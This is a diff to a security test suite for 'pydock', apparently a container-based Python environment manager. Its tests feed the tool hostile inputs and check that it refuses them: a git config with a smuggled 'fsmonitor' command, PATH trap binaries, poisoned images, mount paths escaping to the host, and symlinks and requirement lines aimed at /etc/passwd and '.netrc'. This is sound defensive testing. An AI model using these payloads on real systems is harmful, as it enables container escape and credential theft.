+                    self.run_pydock(*argv)
+                    for folder in self.folder(name).parent.iterdir():
+                        for path in folder.iterdir():
+                            if path.is_file():
+                                self.assertNotIn("evil", path.read_text(encoding="utf-8").lower(), path)
+                    self.assertFalse((self.folder(name) / "docker-compose.yml").exists())
+
+
+class HostPrograms(Attack):
+    def test_no_git_of_the_host_reads_a_project(self) -> None:
+        """git obeys the settings of a folder that looks like a repository."""
+        trap = self.base / "trap"
+        trap.mkdir()
+        for name in ("git", "ssh", "buildctl", "docker-credential-evil", "sh", "python3"):
+            (trap / name).write_text("#!/bin/sh\necho %s \"$@\" >>%s\n%s\n" % (name, shlex.quote(str(self.marker())),
+                    "exec /bin/%s \"$@\"" % name if name == "sh" else "exit 1"), encoding="utf-8")
+            (trap / name).chmod(0o755)
+        bare = {"HEAD": "ref: refs/heads/main\n", "config": "[core]\n\tbare = true\n\tfsmonitor = touch x\n", "objects/x": "", "refs/heads/x": ""}
+        folder = self.project("bare", dict(bare))
+        (folder / ".git").mkdir()
+        for name, data in bare.items():
+            (folder / ".git" / name).parent.mkdir(parents=True, exist_ok=True)
+            (folder / ".git" / name).write_text(data, encoding="utf-8")
+        path = "%s:%s" % (trap, self.environ["PATH"])
+        for argv in (["build", "dev"], ["run", "dev", "true"], ["install", "dev", str(make_wheel(self.base / "dist", "plain"))], ["list"], ["start", "dev"],
+                ["activate", "--shell", "sh", "dev"], ["stop", "dev"], ["config"], ["export", "dev", "x.tar"], ["verify", "dev"]):
+            with self.subTest(argv):
+                self.run_pydock(*argv, cwd=folder, environ={"PATH": path})
+                self.assertFalse(self.marker().exists() and self.marker().read_text(encoding="utf-8"))
 
 
 class ImagesOfOthers(Attack):
@@ -663,7 +837,8 @@ class ImagesOfOthers(Attack):
 
     def poisoned(self, *tags: str, **labels: str) -> None:
         """An image as of a clean environment, with a sitecustomize.py in it, under these names."""
-        text = "FROM %s-seed:latest\nUSER 0:0\nRUN echo \"open('/tmp/PWNED', 'w')\" >$(echo /opt/venv/lib/python3*/site-packages)/sitecustomize.py\nUSER %d:%d\n" % (self.prefix, os.getuid(), os.getgid())
+        text = "FROM %s-seed:latest\nUSER 0:0\nRUN echo \"open('/tmp/PWNED', 'w')\" >$(echo /opt/venv/lib/python3*/site-packages)/sitecustomize.py\n" % self.prefix
+        text += "USER %d:%d\n" % (os.getuid(), os.getgid())
         text += "".join('LABEL %s="%s"\n' % (key.replace("_", "."), value) for key, value in labels.items())
         engine("build", "-q", *[word for tag in tags for word in ("-t", tag)], "-", input=text)
 
@@ -707,17 +882,17 @@ class ImagesOfOthers(Attack):
         self.ok("create", "mine", environ={"HOME": str(theirs)})
         wheel = str(make_wheel(self.base / "dist", "plain"))
         self.ok("install", "mine", wheel, environ={"HOME": str(theirs)})
-        self.ok("snapshot", "mine", "paper", environ={"HOME": str(theirs)})
         before = self.tags("mine")
         self.assertIn(self.prefix + "-mine:latest", before)
-        for argv in (["list"], ["create", "another"], ["install", "another", wheel], ["prune", "-y"], ["delete", "-y", "another"], ["build", "seed"], ["create", "mine"], ["history", "mine"], ["config"]):
+        for argv in (["list"], ["create", "another"], ["prune", "-y"], ["delete", "-y", "another"], ["build", "seed"], ["create", "mine"]):
             self.safe(self.run_pydock(*argv))
             after = self.tags("mine")
             self.assertEqual({tag: id_ for tag, id_ in before.items() if after.get(tag) != id_ and ":tmp-" not in tag and self.of(id_, str(theirs))}, {}, argv)
         self.assertEqual(self.ok("run", "mine", "python", "-c", "import plain; print(plain.version)", environ={"HOME": str(theirs)}), "1.0\n")
 
     def of(self, id_: str, home: str) -> bool:
-        return home in pydock.unquote(engine("image", "inspect", "--format", '{{index .Config.Labels "pydock.folder"}}', id_, check=False) or pydock.quote(home))
+        return home in pydock.unquote(engine("image", "inspect", "--format", '{{index .Config.Labels "pydock.folder"}}', id_,
+                check=False) or pydock.quote(home))
 
 
 @unittest.skipUnless(PODMAN, "docker's BuildKit keeps a dockerfile in its box")
@@ -733,14 +908,21 @@ class Mounts(Attack):
         trap = "FROM base AS trap\nRUN ln -s / /x\n"
         touch = "touch /h/PWNED /h%s/PWNED 2>/dev/null; true" % out
         steps: Dict[str, str] = {
-            "cache": "RUN %s %s" % (cache, touch), "bind": "RUN %s %s" % (stage, touch), "continued": "RUN \\\n  %s \\\n  %s" % (cache, touch), "a comment between": "RUN \\\n# nothing\n  %s %s" % (cache, touch),
-            "a blank line between": "RUN \\\n\n  %s %s" % (cache, touch), "small letters": "run %s %s" % (cache, touch), "a tab": "RUN\t%s %s" % (cache, touch), "another flag first": "RUN --network=none %s %s" % (cache, touch),
-            "blanks before": "   RUN %s %s" % (cache, touch), "split in the flag": "RUN --mou\\\nnt=type=cache,id=%s%s,target=/h %s" % (up, str(out).lstrip("/"), touch), "split in the word": "RU\\\nN %s %s" % (cache, touch),
-            "on build": "ONBUILD RUN %s %s" % (cache, touch), "a carriage return": "RUN \\\r\n  %s %s" % (cache, touch), "a heredoc": "RUN %s <<E\n%s\nE" % (cache, touch), "quoted": 'RUN --mount="type=cache,id=%s%s,target=/h" %s' % (up, str(out).lstrip("/"), touch),
-            "a variable": "ARG M=type=cache,id=%s%s,target=/h\nRUN --mount=$M %s" % (up, str(out).lstrip("/"), touch), "the template's with more": "RUN --mount=type=cache,id=pydock,target=/cache %s %s" % (cache, touch)}
+            "cache": "RUN %s %s" % (cache, touch), "bind": "RUN %s %s" % (stage, touch), "continued": "RUN \\\n  %s \\\n  %s" % (cache, touch),
+                    "a comment between": "RUN \\\n# nothing\n  %s %s" % (cache, touch),
+            "a blank line between": "RUN \\\n\n  %s %s" % (cache, touch), "small letters": "run %s %s" % (cache, touch),
+                    "a tab": "RUN\t%s %s" % (cache, touch), "another flag first": "RUN --network=none %s %s" % (cache, touch),
+            "blanks before": "   RUN %s %s" % (cache, touch), "split in the flag": "RUN --mou\\\nnt=type=cache,id=%s%s,target=/h %s" % (up,
+                    str(out).lstrip("/"), touch), "split in the word": "RU\\\nN %s %s" % (cache, touch),
+            "on build": "ONBUILD RUN %s %s" % (cache, touch), "a carriage return": "RUN \\\r\n  %s %s" % (cache, touch),
+                    "a heredoc": "RUN %s <<E\n%s\nE" % (cache, touch), "quoted": 'RUN --mount="type=cache,id=%s%s,target=/h" %s' % (up, str(out).lstrip("/"),
+                    touch),
+            "a variable": "ARG M=type=cache,id=%s%s,target=/h\nRUN --mount=$M %s" % (up, str(out).lstrip("/"), touch),
+                    "the template's with more": "RUN --mount=type=cache,id=pydock,target=/cache %s %s" % (cache, touch)}
         dockerfiles = {title: trap_in(TEMPLATE, trap, step) for title, step in steps.items()}
         dockerfiles["an escape character"] = "# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap, "RUN `\n  %s %s" % (cache, touch))
-        dockerfiles["an escape after a syntax line"] = "# syntax=x\n# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap, "RUN `\n# x\n  %s %s" % (cache, touch))
+        dockerfiles["an escape after a syntax line"] = "# syntax=x\n# escape=`\n" + trap_in(TEMPLATE.replace("\\\n", "`\n"), trap,
+                "RUN `\n# x\n  %s %s" % (cache, touch))
         dockerfiles["instead of the template's"] = TEMPLATE.replace("id=pydock,target=/cache", "id=%s%s,target=/cache" % (up, str(out).lstrip("/")))
         dockerfiles["an image with more in it"] = "FROM somebody/else AS base\nUSER 0:0\n"
         self.record()
@@ -752,6 +934,25 @@ class Mounts(Attack):
                     self.assertRegex(result.err, "hint: .*trust", result)
                 self.assertEqual(self.recorded("build"), [])
                 self.assertEqual(sorted(os.listdir(out)), [])
+
+    def test_a_base_image_that_a_projects_settings_name(self) -> None:
+        """The image brings the step, in ONBUILD, and the clone's pydock.conf the image."""
+        out = self.base / "host on build"
+        out.mkdir()
+        cache = "--mount=type=cache,id=%s%s,target=/h" % ("../" * 12, str(out).lstrip("/"))
+        name = "localhost/%s-evil/" % self.prefix
+        engine("build", "--format", "docker", "-q", "-t", name + BASE, "-", input="FROM %s\nONBUILD RUN %s touch /h/PWNED\n" % (BASE, cache))
+        self.addCleanup(engine, "rmi", "-f", name + BASE, check=False)
+        default = TEMPLATE.replace("ARG REPOSITORY=\n", "ARG REPOSITORY=%s\n" % name)
+        for number, (conf, text) in enumerate((("[pydock]\nrepository = %s\n" % name, TEMPLATE), ("", default),
+                ("", TEMPLATE.replace("${REPOSITORY}", name)), ("[pydock]\nimage = %spython:{version}-slim\n" % name, default),
+                                               ("", default + "FROM scratch AS last\nARG REPOSITORY=\n"), ("", "FROM ${X:-%s%s}\n" % (name, BASE)),
+                                                       ("", "ARG X=%s%s\nFROM $X\n" % (name, BASE)))):
+            with self.subTest(conf=conf, number=number):
+                folder = self.project("conf%d" % number, dockerfile=text)
+                (folder / ".pydock" / "pydock.conf").write_text(conf or "[pydock]\n", encoding="utf-8")
+                self.run_pydock("build", "dev", cwd=folder)
+                self.assertEqual(os.listdir(out), [])
 
     def test_the_templates_own_builds_and_others_after_trust(self) -> None:
         self.assertEqual(self.ok("run", "dev", "echo", "on", cwd=self.project("plain")), "on\n")
@@ -772,8 +973,10 @@ def trap_in(dockerfile: str, stage: str, step: str) -> str:
 # 4. Files of a project
 
 READ_BY: Dict[str, Sequence[Sequence[str]]] = {  # what reads each file
-    "pydock.conf": (["list"], ["config"], ["completion", "--words", "run", ""]), "dockerfile": (["run", "dev", "true"], ["export", "dev", "out.tar"], ["-n", "build", "dev"]),
-    "requirements.txt": (["run", "dev", "true"], ["-n", "install", "dev", "six"], ["lock", "--check", "dev"]), "docker-compose.yml": (["run", "dev", "true"], ["trust", "-y", "dev"]), ".env": (["trust", "-y", "dev"],),
+    "pydock.conf": (["list"], ["config"], ["completion", "--words", "run", ""]), "dockerfile": (["run", "dev", "true"], ["export", "dev", "out.tar"], ["-n",
+            "build", "dev"]),
+    "requirements.txt": (["run", "dev", "true"], ["-n", "install", "dev", "six"], ["lock", "--check", "dev"]),
+            "docker-compose.yml": (["run", "dev", "true"], ["trust", "-y", "dev"]), ".env": (["trust", "-y", "dev"],),
     "wheels/x-1.0-py3-none-any.whl": (["clone", "dev", "copy"], ["export", "dev", "out.tar"], ["build", "dev"])}
 
 
@@ -826,7 +1029,8 @@ class Files(Attack):
                 os.chdir(old)
 
         kinds: Dict[str, Callable[[Path], object]] = {
-            "zero": lambda path: path.symlink_to("/dev/zero"), "fifo": os.mkfifo, "device": device, "sparse": sparse, "socket": listening, "folder": lambda path: path.mkdir(), "itself": lambda path: path.symlink_to(path.name),
+            "zero": lambda path: path.symlink_to("/dev/zero"), "fifo": os.mkfifo, "device": device, "sparse": sparse, "socket": listening,
+                    "folder": lambda path: path.mkdir(), "itself": lambda path: path.symlink_to(path.name),
             "terminal": lambda path: path.symlink_to("/dev/tty"), "standard input": lambda path: path.symlink_to("/proc/self/fd/0")}
         for number, (kind, make) in enumerate(kinds.items()):
             for name in READ_BY:
@@ -838,11 +1042,13 @@ class Files(Attack):
                         self.guarded(*argv, cwd=folder)
 
     def test_links_to_a_secret(self) -> None:
-        for number, name in enumerate(("pydock.conf", "dockerfile", "requirements.txt", "docker-compose.yml", ".env", "requirements.txt.orig", "wheels/x-1.0-py3-none-any.whl", ".requirements.txt.new", ".dockerfile.new")):
+        for number, name in enumerate(("pydock.conf", "dockerfile", "requirements.txt", "docker-compose.yml", ".env", "requirements.txt.orig",
+                "wheels/x-1.0-py3-none-any.whl", ".requirements.txt.new", ".dockerfile.new")):
             folder = self.project("secret%d" % number, requirements="./wheels/x-1.0-py3-none-any.whl\n" if "whl" in name else "")
             target = self.secret if number % 2 else Path(os.path.relpath(self.secret, self.place(folder, name).parent))
             self.place(folder, name).symlink_to(target)
-            for argv in (*READ_BY.get(name, ()), ["freeze", "dev"], ["unfreeze", "dev"], ["--local", "config", "history", "5"], ["install", "dev", "six"], ["delete", "-y", "dev"]):
+            for argv in (*READ_BY.get(name, ()), ["freeze", "dev"], ["unfreeze", "dev"], ["--local", "config", "history", "5"], ["install", "dev", "six"],
+                    ["delete", "-y", "dev"]):
                 with self.subTest(name=name, argv=argv):
                     self.guarded(*argv, cwd=folder)
                     self.held()
@@ -850,7 +1056,8 @@ class Files(Attack):
                 self.assertNotIn(SECRET.encode(), (folder / "out.tar").read_bytes())
 
     def test_the_content_of_a_broken_file_is_not_repeated(self) -> None:
-        for number, text in enumerate((SECRET, "[pydock]\n%s\n" % SECRET, "[%s\n" % SECRET, "[pydock]\n%s = %s\n" % (SECRET, SECRET), "[pydock]\npython\n  %s" % SECRET, "[pydock]\npython=3\npython=%s" % SECRET, "[%s]\n[%s]\n" % (SECRET, SECRET))):
+        for number, text in enumerate((SECRET, "[pydock]\n%s\n" % SECRET, "[%s\n" % SECRET, "[pydock]\n%s = %s\n" % (SECRET, SECRET),
+                "[pydock]\npython\n  %s" % SECRET, "[pydock]\npython=3\npython=%s" % SECRET, "[%s]\n[%s]\n" % (SECRET, SECRET))):
             folder = self.project("broken%d" % number)
             (folder / ".pydock" / "pydock.conf").write_text(text, encoding="utf-8")
             for argv in (["list"], ["config"], ["run", "dev", "true"], ["completion", "--words", "run", ""]):
@@ -864,16 +1071,19 @@ class Files(Attack):
         self.away(target)
         self.project("elsewhere")
         shutil.move(str(self.work / "elsewhere"), str(target))
-        real = {"pydock": target / ".pydock", "envs": target / ".pydock" / "envs", "dev": target / ".pydock" / "envs" / "dev", "wheels": target / ".pydock" / "envs" / "dev" / "wheels"}
+        real = {"pydock": target / ".pydock", "envs": target / ".pydock" / "envs", "dev": target / ".pydock" / "envs" / "dev",
+                "wheels": target / ".pydock" / "envs" / "dev" / "wheels"}
         real["wheels"].mkdir()
         (real["wheels"] / "x-1.0-py3-none-any.whl").write_text("x", encoding="utf-8")
         before = sorted(map(str, target.rglob("*")))
         for level, to in real.items():
             folder = self.project("level-" + level, requirements="./wheels/x-1.0-py3-none-any.whl\n")
-            path = {"pydock": folder / ".pydock", "envs": folder / ".pydock" / "envs", "dev": self.inside(folder), "wheels": self.inside(folder) / "wheels"}[level]
+            path = {"pydock": folder / ".pydock", "envs": folder / ".pydock" / "envs", "dev": self.inside(folder),
+                    "wheels": self.inside(folder) / "wheels"}[level]
             shutil.rmtree(path, ignore_errors=True)
             path.symlink_to(to)
-            for argv in (["list"], ["run", "dev", "true"], ["export", "dev", "out.tar"], ["clone", "dev", "copy"], ["freeze", "dev"], ["--local", "create", "new", "--no-build"], ["install", "dev", "six"],
+            for argv in (["list"], ["run", "dev", "true"], ["export", "dev", "out.tar"], ["clone", "dev", "copy"], ["freeze", "dev"],
+                    ["--local", "create", "new", "--no-build"], ["install", "dev", "six"],
                          ["--local", "delete", "-y", "dev"], ["--local", "config", "python", "3.11"], ["prune", "-y"]):
                 with self.subTest(level=level, argv=argv):
                     self.guarded(*argv, cwd=folder)
@@ -888,7 +1098,8 @@ class Files(Attack):
         (clone / ".pydock").mkdir(parents=True)
         for target in ("../../.pydock/envs", str(self.home / ".pydock" / "envs")):
             (clone / ".pydock" / "envs").symlink_to(target)
-            for argv in (["delete", "-y", "precious"], ["--local", "delete", "-y", "precious"], ["--local", "freeze", "precious"], ["--local", "clone", "precious", "copy"], ["list"]):
+            for argv in (["delete", "-y", "precious"], ["--local", "delete", "-y", "precious"], ["--local", "freeze", "precious"],
+                    ["--local", "clone", "precious", "copy"], ["list"]):
                 self.guarded(*argv, cwd=clone)
                 self.assertTrue((self.folder("precious") / "dockerfile").exists(), argv)
                 self.assertTrue(os.access(self.folder("precious") / "dockerfile", os.W_OK))
@@ -903,7 +1114,8 @@ class Files(Attack):
         dist = self.base / "dist out"
         self.away(dist)
         wheel = make_wheel(dist, "demo")
-        for number, line in enumerate(("./wheels/../../../../../%s/%s" % (dist.name, wheel.name), "./wheels/%s" % wheel, "./wheels/x/../../../../../../%s/%s" % (dist.name, wheel.name), "./wheels/..%2f" + wheel.name)):
+        for number, line in enumerate(("./wheels/../../../../../%s/%s" % (dist.name, wheel.name), "./wheels/%s" % wheel,
+                "./wheels/x/../../../../../../%s/%s" % (dist.name, wheel.name), "./wheels/..%2f" + wheel.name)):
             folder = self.project("leads%d" % number, requirements=line + "\n")
             (self.inside(folder) / "wheels").mkdir()
             self.no_fake()
@@ -926,7 +1138,8 @@ class Files(Attack):
     def test_what_belongs_to_somebody_else(self) -> None:
         if os.geteuid():
             self.skipTest("only root can give files away")
-        for number, what in enumerate((".pydock/envs/dev/requirements.txt", ".pydock/envs/dev/dockerfile", ".pydock/envs/dev/docker-compose.yml", ".pydock/pydock.conf", ".pydock/envs/dev", ".pydock/envs")):
+        for number, what in enumerate((".pydock/envs/dev/requirements.txt", ".pydock/envs/dev/dockerfile", ".pydock/envs/dev/docker-compose.yml",
+                ".pydock/pydock.conf", ".pydock/envs/dev", ".pydock/envs")):
             with self.subTest(what):
                 folder = self.project("theirs%d" % number, {"docker-compose.yml": services()} if "compose" in what else {})
                 path = folder / what
@@ -967,7 +1180,7 @@ class Files(Attack):
         self.ok("--global", "create", "e", "--no-build")
         for cwd in (shared, shared / "below"):
             with self.subTest(cwd):
-                self.assertEqual(json.loads(self.run_pydock("config", "--json", cwd=cwd).out or "{}").get("mode", "global"), "global")
+                self.assertRegex(json.loads(self.run_pydock("config", "--json", cwd=cwd).out).get("mode"), "^global")
                 result = self.guarded("delete", "-y", "dev", cwd=cwd)
                 self.assertNotEqual(result.status, 0)
                 self.assertTrue(self.inside(mine).exists())
@@ -997,8 +1210,10 @@ class Files(Attack):
         (private / "setup.py").write_text(SECRET, encoding="utf-8")
         folder = self.project("names files")
         up = os.path.relpath(private, folder)
-        for line in ("-r %s" % self.secret, "-r ../../%s" % self.secret.name, "--requirement=%s" % self.secret, "-c %s" % self.secret, "%s/stolen-1.0-py3-none-any.whl" % private, "%s/stolen-1.0-py3-none-any.whl" % up,
-                     "file://%s" % private, "stolen @ file://%s/stolen-1.0-py3-none-any.whl" % private, "-e %s" % private, "%s" % private, "-r sub/more.txt", "~/.netrc", "-r /root/.netrc", "-r /dev/zero", "-r fifo"):
+        for line in ("-r %s" % self.secret, "-r ../../%s" % self.secret.name, "--requirement=%s" % self.secret, "-c %s" % self.secret,
+                "%s/stolen-1.0-py3-none-any.whl" % private, "%s/stolen-1.0-py3-none-any.whl" % up,
+                     "file://%s" % private, "stolen @ file://%s/stolen-1.0-py3-none-any.whl" % private, "-e %s" % private, "%s" % private, "-r sub/more.txt",
+                             "~/.netrc", "-r /root/.netrc", "-r /dev/zero", "-r fifo"):
             (folder / "sub").mkdir(exist_ok=True)
             (folder / "sub" / "more.txt").write_text("-r %s\n" % self.secret, encoding="utf-8")
             if not (folder / "fifo").exists():
@@ -1049,10 +1264,14 @@ class Mounted(Attack):
             if started:
                 self.ok("start", "e", cwd=self.home)
                 self.addCleanup(self.run_pydock, "stop", "--force", "e", cwd=self.home)
-            for number, script in enumerate((
-                    "echo x >>.pydock/envs/e/dockerfile", "echo '[pydock]' >.pydock/pydock.conf", "mkdir -p .pydock/envs/evil; touch .pydock/envs/evil/dockerfile", "touch .local/share/pydock/evil", "touch .local/share/pydock/trust/evil",
-                    "rm -rf .pydock", "mv .pydock aside; mkdir .pydock; touch .pydock/evil", "mv .local/share aside1; mkdir -p .local/share/pydock/trust; touch .local/share/pydock/evil", "mv .local aside2; mkdir -p .local/share/pydock; touch .local/share/pydock/evil",
-                    "touch %s/.pydock/evil" % self.home, "ln -s /tmp .pydock/link", "chmod 777 .pydock/envs/e/dockerfile")):
+            for script in (
+                    "echo x >>.pydock/envs/e/dockerfile", "echo '[pydock]' >.pydock/pydock.conf",
+                            "mkdir -p .pydock/envs/evil; touch .pydock/envs/evil/dockerfile", "touch .local/share/pydock/evil",
+                            "touch .local/share/pydock/trust/evil",
+                    "rm -rf .pydock", "mv .pydock aside; mkdir .pydock; touch .pydock/evil",
+                            "mv .local/share aside1; mkdir -p .local/share/pydock/trust; touch .local/share/pydock/evil",
+                            "mv .local aside2; mkdir -p .local/share/pydock; touch .local/share/pydock/evil",
+                    "touch %s/.pydock/evil" % self.home, "ln -s /tmp .pydock/link", "chmod 777 .pydock/envs/e/dockerfile"):
                 with self.subTest(script=script, started=started):
                     self.refused_inside(script, cwd=self.home)
                     self.assertEqual((self.folder("e") / "dockerfile").read_text(encoding="utf-8"), before)
@@ -1067,7 +1286,8 @@ class Mounted(Attack):
         other = self.base / "fresh home"
         other.mkdir()
         self.ok("create", "f", environ={"HOME": str(other), "PYDOCK_PREFIX": self.prefix + "f"})
-        self.ok("run", "f", "/bin/sh", "-c", "mkdir -p .local/share/pydock/trust && touch .local/share/pydock/trust/evil; true", cwd=other, environ={"HOME": str(other), "PYDOCK_PREFIX": self.prefix + "f"})
+        self.ok("run", "f", "/bin/sh", "-c", "mkdir -p .local/share/pydock/trust && touch .local/share/pydock/trust/evil; true", cwd=other,
+                environ={"HOME": str(other), "PYDOCK_PREFIX": self.prefix + "f"})
         self.assertEqual(list(other.rglob("evil")), [])
 
     def test_a_folder_above_the_data_folder(self) -> None:
@@ -1082,7 +1302,8 @@ class Mounted(Attack):
     def test_the_project(self) -> None:
         folder = self.project("mounted")
         before = sorted(map(str, (folder / ".pydock").rglob("*")))
-        for script in ("touch .pydock/evil", "echo x >>.pydock/envs/dev/dockerfile", "echo '-e /' >>.pydock/envs/dev/requirements.txt", "touch .pydock/envs/dev/docker-compose.yml", "mv .pydock aside; mkdir .pydock; touch .pydock/evil", "rm -rf .pydock",
+        for script in ("touch .pydock/evil", "echo x >>.pydock/envs/dev/dockerfile", "echo '-e /' >>.pydock/envs/dev/requirements.txt",
+                "touch .pydock/envs/dev/docker-compose.yml", "mv .pydock aside; mkdir .pydock; touch .pydock/evil", "rm -rf .pydock",
                        "touch %s/.pydock/evil" % folder, "ln -sf /etc/passwd .pydock/envs/dev/requirements.txt"):
             with self.subTest(script):
                 self.refused_inside(script, cwd=folder, name="dev")
@@ -1116,37 +1337,46 @@ class Terminals(Attack):
 
     def test_labels(self) -> None:
         quoted = pydock.quote(STEERS)
-        for number, value in enumerate((STEERS.replace('"', ""), quoted)):
+        for number, value in enumerate((STEERS, quoted)):
             tag = "%s-l%d:latest" % (self.prefix, number)
             names = ("command", "python", "packages", "name", "folder", "time", "dockerfile")
             labels = {"pydock." + key: value for key in names}
             labels["pydock.folder"] = pydock.quote("/nowhere/" + STEERS)
-            engine("build", "-q", "-t", tag, *[word for key, text in labels.items() for word in ("--label", "%s=%s" % (key, text))], "-", input="FROM %s\n" % BASE)
+            labels["pydock.name"] = "l1" if number else value
+            engine("build", "-q", "-t", tag, *[word for key, text in labels.items() for word in ("--label", "%s=%s" % (key, text))], "-",
+                    input="FROM %s\n" % BASE)
             self.ok("create", "l%d" % number, "--no-build")
-            for argv in (["list"], ["list", "--all"], ["prune"], ["config"], ["history", "l%d" % number], ["run", "l%d" % number, "true"], ["lock", "--check", "l%d" % number], ["create", "n", "--from", tag], ["stop", "l%d" % number]):
+            if number:
+                folders = [row["path"] for row in json.loads(self.run_pydock("list", "--all", "--json").out)]
+                self.assertIn("/nowhere/" + STEERS, folders)
+            for argv in (["list"], ["list", "--all"], ["prune"], ["config"], ["history", "l%d" % number], ["run", "l%d" % number, "true"],
+                    ["lock", "--check", "l%d" % number], ["create", "n", "--from", tag], ["stop", "l%d" % number]):
                 with self.subTest(argv=argv, value=value):
                     self.quiet(*argv)
-            rows = json.loads(self.run_pydock("list", "--all", "--json").out)
-            self.assertIn("/nowhere/" + STEERS, json.dumps(rows, ensure_ascii=False).replace("\\u001b", "\x1b").replace("\\u0007", "\x07").replace("\\u009b", "\x9b"))
             self.quiet("prune", "-y")
 
     def test_labels_of_the_environments_own_image(self) -> None:
         text = "FROM %s-e:latest\n" % self.prefix
-        engine("build", "-q", "-t", self.prefix + "-e:latest", "-t", self.prefix + "-e:2", "-t", self.prefix + "-e:007", "--label", "pydock.command=" + STEERS, "--label", "pydock.python=" + STEERS,
+        engine("build", "-q", "-t", self.prefix + "-e:latest", "-t", self.prefix + "-e:2", "-t", self.prefix + "-e:007", "--label",
+                "pydock.command=" + STEERS, "--label", "pydock.python=" + STEERS,
                "--label", "pydock.packages=six==" + STEERS, "--label", "pydock.time=" + STEERS, "-", input=text)
-        for argv in (["list"], ["list", "--all"], ["history", "e"], ["export", "e", "x.tar"], ["rollback", "e", "2"], ["install", "e", "./nothing"], ["snapshot", "e", "\x1b[31m"], ["clone", "e", "copy"], ["prune"], ["digest", "e"]):
+        for argv in (["list"], ["list", "--all"], ["history", "e"], ["export", "e", "x.tar"], ["rollback", "e", "2"], ["install", "e", "./nothing"],
+                ["snapshot", "e", "\x1b[31m"], ["clone", "e", "copy"], ["prune"], ["digest", "e"]):
             with self.subTest(argv):
                 self.quiet(*argv)
         self.assertEqual(json.loads(self.run_pydock("history", "--json", "e").out or "[{}]") is not None, True)
 
     def test_files(self) -> None:
-        folder = self.project("named \x1b[31m", {STEERS.replace("/", ""): "x", "docker-compose.yml": "services: {dev: {x: \"%s\"}}\n" % STEERS}, requirements="%s\n-r %s\n" % (STEERS, STEERS))
+        folder = self.project("named \x1b[31m", {STEERS.replace("/", ""): "x", "docker-compose.yml": "services: {dev: {x: \"%s\"}}\n" % STEERS},
+                requirements="%s\n-r %s\n" % (STEERS, STEERS))
         (folder / ".pydock" / "pydock.conf").write_text("[pydock]\nimage = x%s\n" % STEERS, encoding="utf-8")
-        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "dev"], ["lock", "--check", "dev"], ["export", "dev", "x.tar"], ["build", "dev"], ["install", "dev", "-r", STEERS], ["create", STEERS], ["delete", "-y", STEERS], [STEERS], ["list", STEERS]):
+        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "dev"], ["lock", "--check", "dev"], ["export", "dev", "x.tar"],
+                ["build", "dev"], ["install", "dev", "-r", STEERS], ["create", STEERS], ["delete", "-y", STEERS], [STEERS], ["list", STEERS]):
             with self.subTest(argv):
                 self.quiet(*argv, cwd=folder)
         (folder / ".pydock" / "pydock.conf").unlink()
-        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "-y", "dev"], ["lock", "--check", "dev"], ["export", "dev", "y.tar"], ["build", "dev"]):
+        for argv in (["list"], ["config"], ["run", "dev", "true"], ["trust", "-y", "dev"], ["lock", "--check", "dev"], ["export", "dev", "y.tar"],
+                ["build", "dev"]):
             with self.subTest(argv):
                 self.quiet(*argv, cwd=folder)
 
@@ -1184,7 +1414,8 @@ class Strangers(Attack):
         for tag in ("007", "0", "00", "1_0", "9" * 40):
             engine("tag", self.prefix + "-e:latest", "%s-e:%s" % (self.prefix, tag))
         engine("build", "-q", "-t", self.prefix + "-e:5", "--label", "pydock.time=yesterday", "-", input="FROM %s-e:latest\n" % self.prefix)
-        for argv in (["history", "e"], ["list"], ["list", "--all"], ["prune"], ["completion", "--words", "rollback", "e", ""], ["snapshot", "e", "good"], ["rollback", "e", "007"], ["install", "e", str(make_wheel(self.base / "dist", "plain"))], ["run", "e", "true"]):
+        for argv in (["history", "e"], ["list"], ["list", "--all"], ["prune"], ["completion", "--words", "rollback", "e", ""], ["snapshot", "e", "good"],
+                ["rollback", "e", "007"], ["install", "e", str(make_wheel(self.base / "dist", "plain"))], ["run", "e", "true"]):
             with self.subTest(argv):
                 self.guarded_by_time(*argv)
 
@@ -1195,7 +1426,8 @@ class Strangers(Attack):
         return result
 
     def test_bundles_with_a_header_of_gigabytes(self) -> None:
-        for number, (kind, size) in enumerate(((tarfile.XHDTYPE, 6 << 30), (tarfile.GNUTYPE_LONGNAME, 6 << 30), (tarfile.GNUTYPE_LONGLINK, 1 << 33), (tarfile.XGLTYPE, 6 << 30), (tarfile.REGTYPE, 6 << 30), (tarfile.GNUTYPE_SPARSE, 6 << 30))):
+        for number, (kind, size) in enumerate(((tarfile.XHDTYPE, 6 << 30), (tarfile.GNUTYPE_LONGNAME, 6 << 30), (tarfile.GNUTYPE_LONGLINK, 1 << 33),
+                (tarfile.XGLTYPE, 6 << 30), (tarfile.REGTYPE, 6 << 30), (tarfile.GNUTYPE_SPARSE, 6 << 30))):
             path = self.work / ("bundle%d.tar" % number)
             member = tarfile.TarInfo("e/dockerfile")
             member.type, member.size = kind, size
@@ -1233,7 +1465,8 @@ class Strangers(Attack):
                     if result.status:
                         self.assertIn("pydock: error: ", result.err)
                         continue
-                    shown = subprocess.run(["/bin/sh", "-c", result.out + "\ncommand -v python3; echo $PYDOCK_ENV"], cwd=self.work, env={**self.environ, "HOME": str(home)}, stdout=subprocess.PIPE, text=True, timeout=TIME).stdout
+                    shown = subprocess.run(["/bin/sh", "-c", result.out + "\ncommand -v python3; echo $PYDOCK_ENV"], cwd=self.work,
+                            env={**self.environ, "HOME": str(home)}, stdout=subprocess.PIPE, text=True, timeout=TIME).stdout
                     self.assertIn(str(home), shown)
                     self.assertIn("\ne\n", shown)
                 finally:
@@ -1272,7 +1505,8 @@ class Strangers(Attack):
         self.assertEqual(set(names) & set(os.listdir(folder)), {"honest"})
         self.assertIn("sudo", result.err)
         self.ok("link", "s", "git", "--to", str(self.base / "linked"))
-        done = subprocess.run([str(self.base / "linked" / "git")], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True, timeout=TIME)
+        done = subprocess.run([str(self.base / "linked" / "git")], cwd=self.work, env=self.environ, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                text=True, timeout=TIME)
         self.assertEqual(done.stdout, "from the environment\n")
 
     def test_what_activation_runs_here_comes_from_no_package(self) -> None:
@@ -1286,16 +1520,19 @@ class Strangers(Attack):
             (trap / name).chmod(0o755)
         path = "%s:%s" % (trap, self.environ["PATH"])
         text = self.ok("activate", "--shell", "sh", "e")
